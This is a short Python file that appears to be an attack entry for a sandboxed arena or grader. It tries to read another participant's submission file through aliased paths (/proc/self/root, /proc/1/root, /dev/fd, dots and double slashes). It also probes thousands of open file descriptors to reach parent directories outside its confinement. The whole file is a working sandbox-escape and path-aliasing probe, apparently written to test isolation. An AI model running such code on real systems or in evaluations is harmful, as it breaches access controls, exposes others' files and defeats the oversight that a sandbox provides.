"""Opens what it may not by other names: /proc/self/root, /dev/fd, dots and double slashes."""

import functools
import os


@functools.cache
def attack():
    won = []
    target = "@arena@/submissions/ada.py"
    prefixes = (
        "/proc/self/root",
        "/proc/1/root",
        "/proc/self/cwd/..",
        "/proc/thread-self/root",
        "/proc/@grader@/root",
        "//",
        "/./..",
        "/dev/fd/0/..",
    )
    for prefix in prefixes:
        try:
            with open(prefix + target) as file:
                won.append((prefix, len(file.read())))
        except OSError:
            pass
    for fd in range(4096):
        try:
            os.close(os.open("..", os.O_RDONLY, dir_fd=fd))
            won.append(("folder", fd))
        except OSError:
            pass
    return won
